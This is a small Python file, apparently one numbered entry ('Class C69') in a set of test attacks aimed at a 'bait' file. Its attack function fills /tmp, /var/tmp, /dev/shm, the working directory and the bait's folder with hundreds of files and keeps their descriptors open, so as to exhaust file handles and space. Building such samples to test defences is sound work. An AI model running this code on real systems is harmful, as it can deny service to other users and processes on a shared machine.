"""Makes hundreds of files, until none can be made any more: here, in the folders that everybody may write, and in memory. Class C69."""

import os


def attack(bait):
    made = []
    for folder in (".", "/tmp", "/var/tmp", "/dev/shm", os.path.dirname(bait["path"])):
        for number in range(300):
            try:
                made.append(os.open(f"{folder}/small-{number}", os.O_CREAT | os.O_WRONLY))
            except OSError:
                break
        try:
            made.append(os.open(folder, os.O_TMPFILE | os.O_RDWR))
        except OSError:
            pass
    return made
